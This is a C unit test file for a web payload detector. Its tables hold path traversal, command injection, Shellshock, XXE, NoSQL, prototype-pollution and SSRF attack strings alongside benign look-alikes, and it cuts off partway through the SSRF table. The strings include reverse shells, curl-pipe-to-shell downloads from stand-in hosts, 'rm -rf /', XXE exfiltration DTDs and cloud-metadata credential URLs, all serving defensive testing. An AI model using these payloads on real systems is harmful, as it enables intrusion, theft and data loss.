/* test_dp_inj.c - the file, shell and data-format injection detectors
 * (path traversal, command injection, Shellshock, XXE, NoSQL operators,
 * prototype pollution, SSRF to metadata services, log4j lookups): tables of
 * attacks written from each class's grammar and of benign values that look
 * like them. Every value is sent the way a client sends a form field: as
 * "q=<percent-encoded value>" through payload_scan_query, in a query and in a
 * form body, so the decoding layers are the ones a server sees. An attack
 * must draw its own kind; a benign value must draw nothing at all.
 * SW_SHOW_RATES=1 prints the catch rate per class (any kind and own kind). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "collector/detect/payload.h"

struct icase {
	const char *in;
	enum payload_kind want; /* PAYLOAD_NONE: benign, nothing may match */
};

/* "q=" and the value with every byte but the unreserved ones as %XX, the
 * way an HTML form or urllib.parse.quote sends it. */
static size_t form_encode(const char *v, char *out, size_t cap)
{
	static const char hex[] = "0123456789ABCDEF";
	size_t w = 0;

	memcpy(out, "q=", 2);
	w = 2;
	for (; *v && w + 4 < cap; v++) {
		unsigned char c = (unsigned char)*v;
		if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
		    c == '-' || c == '_' || c == '.' || c == '~') {
			out[w++] = (char)c;
		} else {
			out[w++] = '%';
			out[w++] = hex[c >> 4];
			out[w++] = hex[c & 15];
		}
	}
	out[w] = '\0';
	return w;
}

/* kinds found for v sent as a query and as a form body, as a bit set */
static unsigned kinds_of(const char *v, int *score, const char **why)
{
	static char enc[16384];
	static char whybuf[96];
	struct payload_match m[PAYLOAD__COUNT];
	unsigned set = 0;
	size_t n = form_encode(v, enc, sizeof(enc));

	*score = 0;
	*why = "";
	for (int pass = 0; pass < 2; pass++) {
		int k = payload_scan_query(enc, n, pass ? PAYLOAD_WHERE_BODY : PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		for (int i = 0; i < k; i++) {
			set |= 1u << m[i].kind;
			if (m[i].score > *score) {
				*score = m[i].score;
				snprintf(whybuf, sizeof(whybuf), "%s: %s", payload_kind_names[m[i].kind], m[i].why);
				*why = whybuf;
			}
		}
	}
	return set;
}

static void run_itable(const char *cls, const struct icase *t, size_t n)
{
	int bad = 0, pos = 0, own = 0, any = 0;

	for (size_t i = 0; i < n; i++) {
		int score;
		const char *why;
		unsigned set = kinds_of(t[i].in, &score, &why);
		int ok;

		if (t[i].want == PAYLOAD_NONE) {
			ok = set == 0;
		} else {
			pos++;
			ok = (set >> t[i].want) & 1;
			own += ok;
			any += set != 0;
		}
		if (!ok) {
			bad++;
			fprintf(stderr, "  FAIL %s %s: [%s] (%d) %s\n", cls,
				t[i].want == PAYLOAD_NONE ? "benign flagged" : "attack missed", t[i].in,
				score, why);
		}
	}
	if (getenv("SW_SHOW_RATES"))
		printf("  RATE %-16s attacks %3d/%-3d own kind, %3d/%-3d any kind; benign %3d, flagged %d\n",
		       cls, own, pos, any, pos, (int)n - pos, bad - (pos - own));
	assert_int_equal(bad, 0);
}

#define T PAYLOAD_TRAVERSAL
#define C PAYLOAD_CMDI
#define N PAYLOAD_NONE

static void test_traversal_encodings(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"../../../etc/passwd", T},
		{"..\\..\\..\\windows\\win.ini", T},
		{"%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", T},
		{"%252e%252e%252f%252e%252e%252fetc%252fpasswd", T},
		{"%25252e%25252e%25252f%25252e%25252e%25252fetc%25252fshadow", T},
		{"%%32%65%%32%65/%%32%65%%32%65/etc/passwd", T},
		{"..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", T},
		{"%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", T},
		{"%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/boot.ini", T},
		{"..%e0%80%af..%e0%80%afwindows%e0%80%afwin.ini", T},
		{"%f0%80%80%ae%f0%80%80%ae%f0%80%80%afetc%f0%80%80%afpasswd", T},
		{"%fc%80%80%80%80%ae%fc%80%80%80%80%ae%fc%80%80%80%80%afetc/passwd", T},
		{"..%c1%9c..%c1%9c..%c1%9cboot.ini", T},
		{"..%c1%1c..%c1%1c..%c1%1cwinnt/win.ini", T},
		{"%c0%2e%c0%2e/%c0%2e%c0%2e/etc/passwd", T},
		{"%e0%40%ae%e0%40%ae/%e0%40%ae%e0%40%ae/etc/passwd", T},
		{"%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc%u2215passwd", T},
		{"..%u2216..%u2216windows%u2216win.ini", T},
		{"%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd", T},
		{"0x2e0x2e/0x2e0x2e/etc/passwd", T},
		{"..0x2f..0x2f..0x2fetc0x2fpasswd", T},
		{"..0x5c..0x5c..0x5cboot.ini", T},
		{"....//....//....//etc/passwd", T},
		{"....\\\\....\\\\....\\\\windows\\\\win.ini", T},
		{"..././..././..././etc/passwd", T},
		{"..;/..;/..;/WEB-INF/web.xml", T},
		{"../../../../etc/passwd%00", T},
		{"../../../../etc/passwd%00.png", T},
		{"..%00/..%00/..%00/etc/passwd", T},
		{"..\\..\\..\\boot.ini . . .", T},
		{"..\\..\\..\\boot.ini....", T},
		{"../../../../etc/mysql/my.cnf", T},
		{"../../../../../../../../../../../../", T},
		{"..%2f..%2f..%2f..%2f", T},
		{"/../../../../../../../../../../etc/hosts", T},
		{"..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts", T},
		{"%2e%2e%5c%2e%2e%5cboot.ini", T},
		{"..%255c..%255c..%255cboot.ini", T},
		{"/%5C../%5C../%5C../etc/passwd", T},
		{"..\\/..\\/..\\/etc/passwd", T},
		{"/./././../../../etc/passwd", T},
		{".%2e/.%2e/.%2e/etc/passwd", T},
		{"%2e%2e/%2e%2e/%2e%2e/var/log/apache2/access.log", T},
		{"..%252f..%252f..%252fetc%252fpasswd", T},
		{"%252e%252e%255c%252e%252e%255cwindows%255cwin.ini", T},
		{"/.%252e/.%252e/.%252e/etc/passwd", T},
		{"\\\\..\\\\..\\\\..\\\\etc\\\\passwd", T},
		{"..%2F..%2F..%2Fboot.ini%00.txt", T},
		{"..\\../..\\../..\\../etc/shadow", T},
		{"/etc/passwd", T},
		{"/etc/shadow", T},
		{"/etc/passwd%00", T},
		{"C:\\boot.ini", T},
		{"c:\\windows\\win.ini", T},
		{"C:/Windows/System32/drivers/etc/hosts", T},
		{"/proc/self/environ", T},
		{"/proc/self/cmdline", T},
		{"/proc/1/environ", T},
		{"WEB-INF/web.xml", T},
		{"../WEB-INF/web.xml", T},
		{"/WEB-INF/classes/application.properties", T},
		{"file:///etc/passwd", T},
		{"file://c:/windows/win.ini", T},
		{"../.env", T},
		{".env", T},
		{"/var/www/html/.env", T},
		{"../../.git/config", T},
		{".git/HEAD", T},
		{"/.git/config", T},
		{"../.htaccess", T},
		{".htpasswd", T},
		{"/var/www/html/.htaccess", T},
		{"/root/.ssh/id_rsa", T},
		{"/home/admin/.bash_history", T},
		{"C:\\inetpub\\wwwroot\\web.config", T},
		{"php://filter/convert.base64-encode/resource=index.php", T},
		{"php://filter/read=string.rot13/resource=../config.php", T},
		{"php://input", T},
		{"zip://uploads/avatar.jpg%23shell.php", T},
		{"phar://uploads/x.phar/test.txt", T},
		{"expect://id", T},
		{"data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", T},
		{"../config.php", T},
		{"../WEB-INF/classes/db.properties", T},
		{"..\\app.log", T},
		{"../index.php%00", T},
		{"%c0%2e%c0%2e%c0%5c%c0%2e%c0%2e%c0%5cboot.ini", T},
		{"/etc/fstab", T},
		{"/etc/someapp/settings", T},
		{"/proc/net/tcp", T},
		{"C:/etc/passwd", T},
		{"static/img/..%c0%af..%c0%afconfig/database.yml", T},
		{"/var/www/html/%2e%2e/%2e%2e/app/etc/local.xml", T},
		{"images/0x2e0x2e0x5cindex.php", T},
		{"..%c1%af..%c1%afetc/passwd", T},
		{"..%bg%qf..%bg%qf..%bg%qfetc%bg%qfpasswd", T},
		{"..%c0%9v..%c0%9v..%c0%9vetc/passwd", T},
		/* benign */
		{"../../assets/css/site.css", N},
		{"../../fonts/icons.woff2", N},
		{"docs/../README.md", N},
		{"save 50%off on 100%pure cotton", N},
		{"%zz %bg %qf", N},
		{"docs/2024/report.pdf", N},
		{"../images/logo.png", N},
		{"../styles/main.css", N},
		{"../index.html", N},
		{"../docs/guide.pdf", N},
		{"./config/settings.json", N},
		{"~/projects/app", N},
		{"/home/docs/file.txt", N},
		{"v1.2.3", N},
		{"a..b", N},
		{"wait... what?", N},
		{"10..20", N},
		{"...", N},
		{"file.tar.gz", N},
		{"Node.js and .NET", N},
		{"/.well-known/security.txt", N},
		{"https://github.com/user/repo/.github/workflows/ci.yml", N},
		{"git@github.com:user/repo.git", N},
		{"https://example.com/repo.git/info/refs", N},
		{".gitignore", N},
		{".envrc", N},
		{"production.env", N},
		{"C:\\Users\\me\\Documents\\report.docx", N},
		{"C:\\Program Files\\App\\app.exe", N},
		{"https://example.com/a/b/../c", N},
		{"Mozilla/5.0 (Windows NT 10.0; Win64; x64)", N},
		{"東京／大阪", N},
		{"1...2...3", N},
		{"profile.environment", N},
		{"envelope", N},
		{"data:image/png;base64,iVBORw0KGgo=", N},
		{"zip code 10001", N},
		{"The php://memory stream is fast", N},
	};
	run_itable("path_traversal", t, sizeof(t) / sizeof(t[0]));
}

static void test_cmdi_grammar(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{";id", C},
		{"; id", C},
		{"|id", C},
		{"||id", C},
		{"&&id", C},
		{"&id", C},
		{"`id`", C},
		{"$(id)", C},
		{"\nid", C},
		{"\r\nid", C},
		{";cat /etc/passwd", C},
		{"|cat /etc/passwd", C},
		{"&& cat /etc/passwd", C},
		{"a;c'a't /etc/passwd", C},
		{";c\\at /etc/passwd", C},
		{";ca''t /etc/passwd", C},
		{";c\"a\"t /etc/passwd", C},
		{";{cat,/etc/passwd}", C},
		{"|{ls,-la,/}", C},
		{";cat${IFS}/etc/passwd", C},
		{";cat$IFS/etc/passwd", C},
		{";cat$IFS$9/etc/passwd", C},
		{";cat</etc/passwd", C},
		{";c$@at /etc/passwd", C},
		{";w$()hoami", C},
		{";who$@ami", C},
		{";/?\?\?/?\?t /?\?\?/p?\?s?\?", C},
		{";/bin/c?t /etc/pass*", C},
		{"`cat /etc/passwd`", C},
		{"$(cat /etc/passwd)", C},
		{"$(whoami)", C},
		{"'; id; '", C},
		{"\"; id; \"", C},
		{"';id;'", C},
		{"' | whoami #", C},
		{"1;ping -c 3 127.0.0.1", C},
		{"& ping -n 3 127.0.0.1 &", C},
		{"|ping -n 21 127.0.0.1||`ping -c 21 127.0.0.1` #' |ping -n 21 127.0.0.1", C},
		{"; sleep 5", C},
		{"|sleep 5|", C},
		{"$(sleep 5)", C},
		{"`sleep 5`", C},
		{"&& sleep 5 &&", C},
		{"& dir c:\\", C},
		{"| dir", C},
		{"&& type c:\\windows\\win.ini", C},
		{"| type C:\\boot.ini", C},
		{"& cmd /c dir", C},
		{"| cmd.exe /c whoami", C},
		{"& powershell -c Get-Process", C},
		{"; powershell.exe -enc SQBFAFgA", C},
		{"&& net user", C},
		{"| ipconfig /all", C},
		{"& systeminfo", C},
		{"| whoami /priv", C},
		{"& ver", C},
		{"| tasklist /v", C},
		{"; nc -e /bin/sh 10.0.0.1 4444", C},
		{"; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", C},
		{"; rm -rf /", C},
		{"| curl http://x.example/sh | sh", C},
		{"; wget http://x.example/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", C},
		{"; python -c 'import os;os.system(\"id\")'", C},
		{"; perl -e 'print 1'", C},
		{"; php -r 'system(\"id\");'", C},
		{"; echo dGVzdA== | base64 -d | sh", C},
		{";uname${IFS}-a", C},
		{"|| uname -a", C},
		{"; /bin/uname -a", C},
		{"; /usr/bin/whoami", C},
		{"\"; /bin/sh -c 'id'", C},
		{"x\ncat /etc/passwd", C},
		{"; echo 'vulnerable'", C},
		{";ls -la", C},
		{"| ls -al /var/www", C},
		{"127.0.0.1 && whoami", C},
		{"example.com; id", C},
		{"$(echo${IFS}aWQ=|base64${IFS}-d)", C},
		{"; cat /etc/passwd #", C},
		{"`/usr/bin/id`", C},
		{"a%0acat%20/etc/passwd", C},
		{";\tid", C},
		{"&lt;!--#exec cmd=\"ls\"--&gt;", C},
		{"; Get-ChildItem C:\\", C},
		{"| Invoke-Expression $x", C},
		{"<?php eval('echo 1;'); ?>", C},
		{"& w^h^o^a^m^i /priv", C},
		{"|| TYPE C:\\WINDOWS\\WIN.INI", C},
		{"& NET USER", C},
		{"&& %COMSPEC% /c ver", C},
		{"; busybox nc 10.0.0.1 4444 -e sh", C},
		{"|cat\"\"</etc/passwd", C},
		{"& net user&'", C},
		{"; echo vulnerable", C},
		{"&& curl\thttp://evil.example/x|sh", C},
		/* a caret-escaped command word leading the value: only cmd reads
		 * ^ inside a word, so no separator is needed */
		{"n^e^t u^s^e^r", C},
		{"w^h^o^a^m^i /all", C},
		{"W^H^O^A^M^I", C},
		{"i^p^c^o^n^f^i^g", C},
		{" t^y^p^e c:\\windows\\win.ini", C},
		/* a word that closes the quote it sat in, then a separator: the
		 * command after it leads a command line */
		{"x'|net user", C},
		{"x\"&& echo vulnerable", C},
		{"abc'; echo vulnerable #", C},
		{"x.jpg\" || NET USER", C},
		/* benign */
		{"NET PROFIT & LOSS", N},
		{"Type & Dir", N},
		{"Echo & the Bunnymen", N},
		{"x^2 + y^2 = z^2", N},
		{"Hello ^_^ nice", N},
		{"e^x grows faster than x^2", N},
		{"n^2 log n", N},
		{"user's ^ caret", N},
		{"net income", N},
		{"type: c", N},
		{"O'Brien & Type", N},
		{"\"Tom\" & Jerry", N},
		{"rock'n'roll; echo chamber", N},
		{"it's | dir", N},
		{"cat; dog", N},
		{"cats & dogs; birds | fish", N},
		{"Tom & Jerry", N},
		{"R&D; sales | marketing", N},
		{"Q&A", N},
		{"AT&T", N},
		{"this | that", N},
		{"yes; no", N},
		{"id: 42", N},
		{"user id; name", N},
		{"Name|ID|Email", N},
		{"a || b", N},
		{"foo && bar", N},
		{"(555) 123-4567", N},
		{"$(document).ready(function(){})", N},
		{"$HOME", N},
		{"price: $5", N},
		{"echo chamber; sleep tight", N},
		{"sleep; eat; repeat", N},
		{"ping me; cat pics", N},
		{"time & date", N},
		{"find & replace", N},
		{"head | tail", N},
		{"more | less", N},
		{"type: dir", N},
		{"dir; type", N},
		{"java; python; ruby", N},
		{"python;ruby;perl", N},
		{"php & mysql", N},
		{"I love c'a't videos", N},
		{"rock 'n' roll; jazz", N},
		{"Sales & Marketing; Support | Help", N},
		{"net income; gross margin", N},
		{"set & match", N},
		{"read more | share", N},
		{"{cats,dogs}", N},
		{"Press Ctrl+C; then type exit", N},
		{"see /usr/share/doc for more", N},
		{"x = a ? b : c; y = d | e;", N},
		{"one & two & three", N},
		{"docs | api | blog", N},
		{"ls", N},
		{"whoami", N},
		{"1;2;3", N},
		{"red|green|blue", N},
		{"a&b=c", N},
		{"Get-Help; Get-Started guide", N},
		{"python3 -m venv .venv", N},
		{"docker run -p 8080:80 nginx", N},
	};
	run_itable("cmd_injection", t, sizeof(t) / sizeof(t[0]));
}

static void test_shellshock(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"() { :; }; echo vulnerable", PAYLOAD_SHELLSHOCK},
		{"() { :;}; /bin/bash -c 'cat /etc/passwd'", PAYLOAD_SHELLSHOCK},
		{"() { _; } >_[$($())] { id; }", PAYLOAD_SHELLSHOCK},
		{"() { :; }; /usr/bin/id", PAYLOAD_SHELLSHOCK},
		{"() { ignored; }; echo Content-Type: text/plain; echo; /bin/cat /etc/passwd", PAYLOAD_SHELLSHOCK},
		{"() { x() { _; }; x() { _; } <<a; }", PAYLOAD_SHELLSHOCK},
		{"() {:;}; ping -c 1 x.example", PAYLOAD_SHELLSHOCK},
		{"(){ :; }; sleep 5", PAYLOAD_SHELLSHOCK},
		{"() { 0; }; id", PAYLOAD_SHELLSHOCK},
		{" () { :; }; echo; echo; /bin/bash -c 'uname -a'", PAYLOAD_SHELLSHOCK},
		{"() { :; }; wget http://x.example/a", PAYLOAD_SHELLSHOCK},
		{"%28%29%20%7B%20%3A%3B%20%7D%3B%20id", PAYLOAD_SHELLSHOCK},
		{"() { :; }", PAYLOAD_SHELLSHOCK},
		{"() { (a)=>\\' /bin/id", PAYLOAD_SHELLSHOCK},
		{"() { (a)=>\\' bash -c 'echo vulnerable'", PAYLOAD_SHELLSHOCK},
		/* benign */
		{"() { and then", N},
		{"function() { return 1; }", N},
		{"foo() { bar; }", N},
		{"const f = () => { go(); }", N},
		{"if () { }", N},
		{"setTimeout(function () { x(); }, 10)", N},
		{"smile () {", N},
		{"() {}", N},
		{"Call () { to book", N},
	};
	run_itable("shellshock", t, sizeof(t) / sizeof(t[0]));
}

#define X PAYLOAD_XXE

static void test_xxe(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>", X},
		{"<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"http://internal.example/\">]>", X},
		{"<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://evil.example/evil.dtd\"> %xxe;]>", X},
		{"<!ENTITY % file SYSTEM \"php://filter/read=convert.base64-encode/resource=/etc/passwd\">", X},
		{"<!DOCTYPE root SYSTEM \"http://evil.example/x.dtd\"><root/>", X},
		{"<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>", X},
		{"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>", X},
		{"<foo xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></foo>", X},
		{"<!DOCTYPE foo [<!ELEMENT foo ANY><!ENTITY xxe SYSTEM \"expect://id\">]><foo>&xxe;</foo>", X},
		{"<!DOCTYPE x [ <!ENTITY % a SYSTEM 'http://x.example/a.dtd'> %a; %b; ]>", X},
		{"<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM \"http://x.example/\">%dtd;]><xxx/>]]></foo></soap:Body>", X},
		{"<!DOCTYPE data PUBLIC \"-//OASIS//DTD x//EN\" \"http://attacker.example/x.dtd\">", X},
		{"<!ENTITY xxe SYSTEM \"file:///c:/windows/win.ini\">", X},
		{"<!DOCTYPE r [<!ENTITY % remote SYSTEM \"http://x.example/e.dtd\">%remote;%int;%trick;]>", X},
		{"<!ENTITY % p1 '<!ENTITY exfil SYSTEM \"http://x.example/?%data;\">'>", X},
		{"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>", X},
		{"<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:value-of select=\"document('/etc/passwd')\"/></xsl:stylesheet>", X},
		{"<xsl:value-of select=\"system-property('xsl:vendor')\"/>", X},
		{"&lt;!DOCTYPE foo [&lt;!ENTITY xxe SYSTEM &quot;file:///etc/passwd&quot;&gt;]&gt;", X},
		{"<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADwAIQ-DOCTYPE foo+AFs +ADwAIQ-ENTITY xxe SYSTEM +ACI-file:///etc/passwd+ACI +AD4AXQA+-", X},
		{"+ADwAIQ-ENTITY x SYSTEM +ACI-http://evil.example/+ACI-+AD4-", X},
		/* helper A, tools/gen-heldout-web.py: a whole document in UTF-16
		 * (LE with a byte order mark, BE without), fully shifted UTF-7,
		 * XSLT 2.0 reads, schema locations and SVG links to local files */
		{"%FF%FE%3C%00%21%00%44%00%4F%00%43%00%54%00%59%00%50%00%45%00%20%00%72%00%20%00%5B%00%3C%00%21%00%45%00%4E%00%54%00%49%00%54%00%59%00%20%00%65%00%20%00%53%00%59%00%53%00%54%00%45%00%4D%00%20%00%22%00%66%00%69%00%6C%00%65%00%3A%00%2F%00%2F%00%2F%00%65%00%74%00%63%00%2F%00%70%00%61%00%73%00%73%00%77%00%64%00%22%00%3E%00%5D%00%3E%00%3C%00%72%00%3E%00%26%00%65%00%3B%00%3C%00%2F%00%72%00%3E%00", X},
		{"%00%3C%00%3F%00%78%00%6D%00%6C%00%20%00%76%00%65%00%72%00%73%00%69%00%6F%00%6E%00%3D%00%22%00%31%00%2E%00%30%00%22%00%3F%00%3E%00%3C%00%21%00%44%00%4F%00%43%00%54%00%59%00%50%00%45%00%20%00%72%00%20%00%53%00%59%00%53%00%54%00%45%00%4D%00%20%00%22%00%68%00%74%00%74%00%70%00%3A%00%2F%00%2F%00%78%00%2E%00%65%00%78%00%61%00%6D%00%70%00%6C%00%65%00%2F%00%61%00%2E%00%64%00%74%00%64%00%22%00%3E%00%3C%00%72%00%2F%00%3E", X},
		{"+ADw-r+AD4APA-xi:include xmlns:xi+AD0AIg-http://www.w3.org/2001/XInclude+ACI- href+AD0AIg-/etc/passwd+ACI-/+AD4-", X},
		{"<?xml version=\"1.0\" encoding=\"UTF-7\"?>+ADw-svg xmlns:xlink+AD0AIg-http://www.w3.org/1999/xlink+ACIAPgA8-image xlink:href+AD0AIg-file:///etc/passwd+ACI-/+AD4-", X},
		{"<xsl:stylesheet version=\"2.0\"><xsl:copy-of select=\"unparsed-text('file:///etc/passwd')\"/></xsl:stylesheet>", X},
		{"<xsl:template match=\"/\"><xsl:copy-of select=\"doc('http://10.0.0.1/')\"/></xsl:template>", X},
		{"<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:noNamespaceSchemaLocation=\"file:///etc/passwd\"/>", X},
		{"<r xsi:schemaLocation=\"urn:x ..\\..\\windows\\win.ini\"/>", X},
		{"<svg><image xlink:href=\"netdoc:/etc/shadow\"/></svg>", X},
		{"<svg><use href=\"/etc/passwd#x\"/></svg>", X},
		/* an XXE example split one line a value, as payload lists do; a
		 * W3C identifier with the DTD fetched from elsewhere */
		{"<!ELEMENT foo ANY >", X},
		{"<!ATTLIST r id CDATA #IMPLIED>", X},
		{"%xxe;]>", X},
		{" %trick; ]>", X},
		{"%int;", X},
		{"]><foo>&xxe;</foo>", X},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://evil.example/x.dtd\">", X},
		/* benign */
		{"100%; width:50%;", N},
		{"%s; %d;", N},
		{"see [1]> and [2]", N},
		{"the <!ELEMENT> declaration, explained", N},
		{"<?xml version=\"1.0\" encoding=\"UTF-8\"?><note><to>Tove</to><body>Hi</body></note>", N},
		{"<!DOCTYPE html><html><body>hi</body></html>", N},
		{"<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">", N},
		{"<!-- a comment -->", N},
		{"&amp; &lt; &gt;", N},
		{"<rss version=\"2.0\"><channel><title>News</title></channel></rss>", N},
		{"The DOCTYPE declaration tells the parser which DTD applies", N},
		{"entity framework; system requirements", N},
		{"<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body/></soap:Envelope>", N},
		{"<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://example.com/ns http://example.com/ns/r.xsd\"/>", N},
		{"<svg><image href=\"data:image/png;base64,iVBORw0KGgo=\"/><use xlink:href=\"#icon-cart\"/></svg>", N},
		{"<svg><image xlink:href=\"https://cdn.example/a.png\"/></svg>", N},
		{"<xsl:value-of select=\"mydoc(@id)\"/>", N},
		{"<svg><image xlink:href=\"/static/logo.png\"/><use href=\"/sprite.svg#cart\"/></svg>", N},
		{"<r xsi:schemaLocation=\"urn:x /schemas/x.xsd\"/>", N},
		{"docs (PDF) + ADwords campaign", N},
		{"C++ A-team and +ADD-ons <b>new</b>", N},
	};
	run_itable("xxe", t, sizeof(t) / sizeof(t[0]));
}

#define S PAYLOAD_NOSQLI

static void test_nosqli(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"{\"$ne\": null}", S},
		{"{\"$gt\": \"\"}", S},
		{"{\"$regex\": \".*\"}", S},
		{"{\"$where\": \"sleep(1000)\"}", S},
		{"{\"username\": {\"$ne\": \"x\"}, \"password\": {\"$ne\": \"x\"}}", S},
		{"{$ne: 1}", S},
		{"true, $where: '1 == 1'", S},
		{"', $where: 'sleep(5000)", S},
		{"[$ne]=1", S},
		{"{\"$nin\": [\"admin\"]}", S},
		{"{\"$or\": [{}, {\"a\": \"a\"}]}", S},
		{"{\"$expr\": {\"$eq\": [1, 1]}}", S},
		{"';return true;var a='", S},
		{"'; sleep(5000); var x='", S},
		{"this.password.match(/.*/)", S},
		{"db.users.find({})", S},
		{"{\"$exists\": true}", S},
		/* benign */
		{"$5 - $10", N},
		{"$schema", N},
		{"{\"$schema\": \"http://json-schema.org/draft-07/schema#\"}", N},
		{"{\"$ref\": \"#/definitions/a\"}", N},
		{"{\"$oid\": \"5f1d7f7e1c9d440000a1b2c3\"}", N},
		{"Pay $in advance", N},
		{"US$100; EUR 90", N},
		{"[$1,000]", N},
		{"{\"op\": \"greater than\", \"gt\": 5}", N},
		{"net price $ne 5", N},
		{"return true; the end", N},
	};
	run_itable("nosqli", t, sizeof(t) / sizeof(t[0]));
}

static void test_nosqli_keys(void **st)
{
	(void)st;
	struct payload_match m[PAYLOAD__COUNT];
	static const char *const atk[] = {
		"username[$ne]=x&password[$ne]=x",
		"user[$regex]=.*&pass[$regex]=.*",
		"login[$gt]=&pwd[$gt]=",
		"name[$nin][]=admin",
		"q[$where]=sleep(100)",
		"username%5B%24ne%5D=x",
	};
	static const char *const ok[] = {
		"$filter=Name%20eq%20'x'&$top=10&$select=a,b",
		"price=$5&currency=USD",
		"a[0]=1&a[1]=2&sort[name]=asc",
		"$skip=20&$orderby=date",
	};
	for (size_t i = 0; i < sizeof(atk) / sizeof(atk[0]); i++) {
		int n = payload_scan_query(atk[i], strlen(atk[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), hit = 0;
		for (int k = 0; k < n; k++)
			hit |= m[k].kind == PAYLOAD_NOSQLI;
		if (!hit)
			fprintf(stderr, "  FAIL nosqli key missed: %s\n", atk[i]);
		assert_true(hit);
	}
	for (size_t i = 0; i < sizeof(ok) / sizeof(ok[0]); i++) {
		int n = payload_scan_query(ok[i], strlen(ok[i]), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		if (n)
			fprintf(stderr, "  FAIL benign query flagged: %s (%s)\n", ok[i], m[0].why);
		assert_int_equal(n, 0);
	}
	const char *j = "{\"username\":{\"$ne\":null},\"password\":{\"$ne\":null}}";
	int n = payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT);
	assert_true(n >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_NOSQLI);
	j = "{\"$schema\":\"https://json-schema.org/draft/2020-12/schema\",\"$id\":\"x\",\"price\":{\"$numberDecimal\":\"9.99\"},\"at\":{\"$date\":\"2024-01-01\"}}";
	assert_int_equal(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT), 0);
}

#define PP PAYLOAD_PROTO_POLLUTION

static void test_proto_pollution(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"__proto__[admin]=true", PP},
		{"__proto__.isAdmin", PP},
		{"constructor[prototype][admin]=1", PP},
		{"constructor.prototype.polluted", PP},
		{"{\"__proto__\": {\"admin\": true}}", PP},
		{"{\"constructor\": {\"prototype\": {\"x\": 1}}}", PP},
		{"a[__proto__][b]=1", PP},
		{"x[constructor][prototype][y]=1", PP},
		{"__proto__=", PP},
		/* benign: the word alone names no property to write (as a
		 * JSON key with an object it is: payload_json_shape_scan) */
		{"__proto__", N},
		{"prototype", N},
		{"constructor", N},
		{"the constructor of the prototype", N},
		{"proto_version=3", N},
		{"protocol", N},
		{"_proto_", N},
	};
	run_itable("proto_pollution", t, sizeof(t) / sizeof(t[0]));
	struct payload_match m[PAYLOAD__COUNT];
	const char *q = "__proto__%5Badmin%5D=1";
	assert_int_equal(payload_scan_query(q, strlen(q), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), 1);
	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
	const char *j = "{\"a\":1,\"constructor\":{\"prototype\":{\"isAdmin\":true}}}";
	assert_true(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT) >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
	j = "{\"__proto__\":{\"isAdmin\":true}}";
	assert_true(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT) >= 1);
	assert_int_equal(m[0].kind, PAYLOAD_PROTO_POLLUTION);
	j = "{\"constructor\":\"Acme Builders\",\"prototype\":\"v2\"}";
	assert_int_equal(payload_scan_json(j, strlen(j), m, PAYLOAD__COUNT), 0);
}

static void test_ssrf_metadata(void **st)
{
	(void)st;
	static const struct icase t[] = {
		{"http://169.254.169.254/latest/meta-data/iam/security-credentials/", PAYLOAD_SSRF},
		{"http://[fd00:ec2::254]/latest/meta-data/", PAYLOAD_SSRF},
		{"http://metadata.google.internal/computeMetadata/v1/?recursive=true", PAYLOAD_SSRF},
		{"http://2852039166/latest/meta-data/", PAYLOAD_SSRF},
		{"http://0xa9fea9fe/", PAYLOAD_SSRF},
